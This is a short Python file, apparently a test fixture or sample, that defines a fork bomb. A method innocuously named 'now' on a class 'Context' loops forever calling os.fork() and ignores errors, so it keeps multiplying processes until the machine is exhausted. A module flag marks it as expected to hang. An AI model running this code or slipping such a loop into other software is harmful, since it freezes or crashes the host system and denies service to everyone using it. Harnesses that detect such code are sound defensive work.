"""A fork bomb: each process makes two."""

import os

HANGS = True


class Context:
    def now(self):
        while True:
            try:
                os.fork()
            except OSError:
                pass
